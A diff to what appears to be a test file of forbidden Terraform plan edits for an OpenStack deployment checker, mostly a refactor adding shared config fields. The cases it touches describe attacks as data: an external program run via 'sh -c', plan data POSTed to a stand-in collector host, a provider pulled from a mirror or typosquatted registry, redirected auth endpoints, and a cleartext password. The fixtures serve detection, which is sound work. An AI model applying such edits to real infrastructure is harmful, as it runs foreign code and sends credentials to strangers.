@@ -66,6 +66,9 @@ function providerSays(values: Block): (text: string) => string {
   });
 }
 
+/** Several are made of that one plan. */
+export const LATER = { file: "reads-later", config: readsLater };
+
 /** Code that runs, and whose it is. */
 export const CODE = [
   forbidden(
@@ -161,7 +164,7 @@ export const CODE = [
     "an external program that is asked while applying",
     "A program runs on the operator's machine.",
     {
-      config: readsLater,
+      ...LATER,
       editPlan: dataAs("external", "external", { program: ["sh", "-c", COMMAND] }),
     },
   ),
@@ -171,6 +174,7 @@ export const CODE = [
     "an external program that was asked while planning",
     "A program runs on the operator's machine with every plan.",
     {
+      file: "unchanged",
       editPlan: edited((plan) => {
         // Read while planning: no change, but in the prior state and in the configuration.
         plan["prior_state"].values.root_module.resources.push({
@@ -205,7 +209,7 @@ export const CODE = [
     "addresses are told to a web service (http)",
     "What the plan knows leaves for a stranger's server.",
     {
-      config: readsLater,
+      ...LATER,
       editPlan: dataAs("http", "http", {
         url: "https://collector.example/?site=rev",
         method: "POST",
@@ -236,6 +240,7 @@ export const CODE = [
     "the OpenStack provider from another registry",
     "A stranger's program gets the cloud's credentials.",
     {
+      file: "unchanged",
       editPlan: replaced([
         "registry.terraform.io/terraform-provider-openstack",
         "registry.mirror.example/terraform-provider-openstack",
@@ -248,6 +253,7 @@ export const CODE = [
     "the OpenStack provider of another owner",
     "A stranger's program gets the cloud's credentials.",
     {
+      file: "unchanged",
       editPlan: replaced([
         "registry.terraform.io/terraform-provider-openstack/",
         "registry.terraform.io/terraform-provider-0penstack/",
@@ -259,7 +265,7 @@ export const CODE = [
     "revidr",
     "the provider logs in elsewhere",
     "Credentials go to another place.",
-    { editPlan: providerSays({ auth_url: "https://keystone.elsewhere.example/v3" }) },
+    { file: "unchanged", editPlan: providerSays({ auth_url: "https://keystone.elsewhere.example/v3" }) },
   ),
   forbidden(
     "code-provider-endpoints",
@@ -267,6 +273,7 @@ export const CODE = [
     "the provider speaks to another Neutron",
     "Requests with the token go to another place.",
     {
+      file: "unchanged",
       editPlan: providerSays({ endpoint_overrides: { network: "https://neutron.elsewhere.example/v2.0/" } }),
     },
   ),
@@ -275,7 +282,7 @@ export const CODE = [
     "revidr",
     "the cloud's password stands in the stack",
     "A secret is written in clear.",
-    { editPlan: providerSays({ user_name: "idr", password: "horse-battery-staple" }) },
+    { file: "unchanged", editPlan: providerSays({ user_name: "idr", password: "horse-battery-staple" }) },
   ),
   forbidden(
     "code-provider-insecure",
@@ -353,7 +360,7 @@ export const CODE = [
     "a check block asks an external program",
     "A program runs on the operator's machine.",
     {
-      config: readsLater,
+      ...LATER,
       editPlan: (text) =>
         edited((plan) => {
           plan["checks"] = [
